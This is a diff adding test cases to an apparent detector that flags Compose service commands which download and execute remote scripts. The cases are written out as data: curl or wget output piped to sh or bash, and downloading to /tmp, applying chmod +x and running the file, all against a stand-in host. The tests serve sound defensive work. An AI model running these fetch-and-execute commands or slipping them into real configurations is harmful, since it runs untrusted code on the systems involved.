@@ -38,6 +38,17 @@ table(pipedDownload, [
     finds: ["services.web.entrypoint"],
   },
   ...[
+    ["a shell by its path", "sh -c 'wget -O - https://x.example/i | /bin/sh'", 1],
+    ["a shell by env", "sh -c 'curl https://x.example/i | /usr/bin/env bash'", 1],
+    ["made executable and run", "sh -c 'wget https://x.example/i -O /tmp/i; chmod +x /tmp/i; /tmp/i'", 1],
+    ["made executable only", "sh -c 'wget https://x.example/i -O /tmp/i; chmod +x /tmp/i; app'", 0],
+    ["a remark", 'sh -c "# curl https://x.example/i | sh\\nexec app"', 0],
+  ].map(([name, line, count]) => ({
+    case: String(name),
+    compose: `services: {web: {image: a, command: ${JSON.stringify(line).replaceAll("\\\\n", "\\n")}}}`,
+    finds: count === 1 ? ["services.web.command"] : [],
+  })),
+  ...[
     ["a build", "RUN curl -fsSL https://x.example/i.sh | sh", ["services.web.build.dockerfile_inline"]],
     [
       "a build in two lines",
